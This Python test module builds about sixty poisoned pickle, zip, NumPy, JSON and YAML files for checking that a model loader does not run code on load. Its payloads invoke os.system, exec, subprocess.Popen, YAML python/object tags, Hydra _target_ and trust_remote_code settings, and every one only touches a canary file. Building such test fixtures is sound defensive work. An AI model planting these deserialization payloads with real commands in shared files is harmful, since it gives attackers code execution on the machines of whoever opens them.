"""Sixty files that run code when a careless loader opens them; the code leaves a canary.

Written with the very libraries that a careless loader would use. Only bytes are made here: nothing is opened.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import zipfile
from collections import OrderedDict
from typing import Any

import numpy as np


class _Runs:
    """Unpickles as the call of a function."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> Any:
        return self.call


def poisons(canary: str, config: dict[str, Any]) -> dict[str, bytes]:
    """Name -> content; opened by the wrong loader, each would make a file at ``canary``."""
    return _pickles(canary) | _archives(canary) | _texts(canary, config)


def evil_module(canary: str) -> str:
    return f"open({canary!r}, 'w').close()\n"


def _payloads(canary: str) -> dict[str, Any]:
    import os
    import subprocess

    code = f"open({canary!r}, 'w').close()"
    return {
        "exec": _Runs(exec, code),
        "eval": _Runs(eval, f"open({canary!r}, 'w')"),
        "open": _Runs(open, canary, "w"),
        "system": _Runs(os.system, f"touch {canary}"),
        "popen": _Runs(subprocess.Popen, ["touch", canary]),
    }


def _pickles(canary: str) -> dict[str, bytes]:
    payloads = _payloads(canary)
    found = {
        f"{name}.p{protocol}.pkl": pickle.dumps(thing, protocol)
        for name, thing in payloads.items()
        for protocol in (0, 2, 4, 5)
    }
    bad = payloads["exec"]
    nested = {
        "in_dict": {"model": {"weight": bad}},
        "in_list": [1, [2, [bad]]],
        "in_key": OrderedDict([("state", bad)]),
        "in_tuple": (bad, bad),
        "rng_state": {"python": (3, (1, 2), None), "numpy": bad},
        "optimizer": {"state": {0: {"step": bad}}, "param_groups": []},
    }
    found |= {f"{name}.pt": pickle.dumps(thing) for name, thing in nested.items()}
    found["globals.bin"] = b"cos\nsystem\n(S'touch " + canary.encode() + b"'\ntR."
    found["after_zeros.bin"] = bytes(64) + pickle.dumps(bad)
    found["twice.bin"] = pickle.dumps({"ok": 1}) + pickle.dumps(bad)
    found["marshal.pyc"] = marshal.dumps(compile(f"open({canary!r}, 'w')", "x", "exec"))
    return found


def _archives(canary: str) -> dict[str, bytes]:
    bad = _payloads(canary)["exec"]
    found = {}
    for name, inner in (("archive/data.pkl", "pt"), ("data.pkl", "zip"), ("../data.pkl", "traversal")):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(name, pickle.dumps(bad))
            archive.writestr("archive/version", "3\n")
        found[f"zip_{inner}.pt"] = buffer.getvalue()
    for shape in ((), (1,), (2, 2)):
        buffer = io.BytesIO()
        array = np.empty(shape, dtype=object)
        array[...] = bad
        np.save(buffer, array, allow_pickle=True)
        found[f"object{len(shape)}.npy"] = buffer.getvalue()
    buffer = io.BytesIO()
    np.savez(buffer, a=np.array([bad], dtype=object))
    found["objects.npz"] = buffer.getvalue()
    types = ("|O", f"__import__('os').system('touch {canary}')", f"<f4', open('{canary}','w'), '")
    for number, dtype in enumerate(types):
        description = f"{{'descr': {dtype!r}, 'fortran_order': False, 'shape': (1,), }}"
        head = description.ljust(118).encode() + b"\n"
        found[f"header{number}.npy"] = b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + pickle.dumps(bad)
    return found


def _texts(canary: str, config: dict[str, Any]) -> dict[str, bytes]:
    touch = f"touch {canary}"
    pickled = base64.b64encode(pickle.dumps(_payloads(canary)["exec"])).decode()
    # Good configurations but for a key that names code; the code lies beside them, as evil.py.
    switches: dict[str, dict[str, Any]] = {
        "auto_map": {"auto_map": {"AutoConfig": "evil.Config", "AutoModelForCausalLM": "evil.Model"}},
        "auto_map_remote": {"auto_map": {"AutoConfig": "somebody/evil--evil.Config"}},
        "trust": {"trust_remote_code": True, "auto_map": {"AutoConfig": "evil.Config"}},
        "attention_internal": {"_attn_implementation_internal": "somebody/evil-kernel"},
        "attention": {"_attn_implementation": "somebody/evil-kernel", "attn_implementation": "evil"},
        "experts": {"_experts_implementation": "somebody/evil-kernel"},
        "pipelines": {"custom_pipelines": {"x": {"impl": "evil.Pipeline", "pt": ["AutoModel"]}}},
        "revision": {"code_revision": "main", "auto_map": {"AutoTokenizer": ["evil.T", None]}},
    }
    objects: dict[str, Any] = {f"switch_{name}": config | extra for name, extra in switches.items()}
    objects |= {
        "hydra": {"model": {"_target_": "os.system", "_args_": [touch]}},
        "hydra_partial": {"_target_": "builtins.exec", "_partial_": False, "source": f"open({canary!r},'w')"},
        "reduce": {"__reduce__": ["os.system", [touch]], "py/reduce": [{"py/type": "os.system"}, touch]},
        "jsonpickle": {"py/object": "__main__.X", "py/reduce": [{"py/function": "os.system"}, {"py/tuple": [touch]}]},
        "embedded": {"rng_state": pickled, "__metadata__": {"pickle": pickled}},
    }
    found = {f"{name}.json": json.dumps(value).encode() for name, value in objects.items()}
    yamls = {
        "apply": f"!!python/object/apply:os.system ['{touch}']",
        "apply_in": f"model:\n  width: !!python/object/apply:os.system ['{touch}']",
        "new": f"!!python/object/new:subprocess.Popen [['touch', '{canary}']]",
        "name": "seed: !!python/name:os.system",
        "module": "seed: !!python/module:evil",
        "target": f"model:\n  _target_: os.system\n  command: {touch}",
        "interpolated": f"seed: ${{oc.create:os.system,'{touch}'}}",
    }
    return found | {f"{name}.yaml": text.encode() for name, text in yamls.items()}
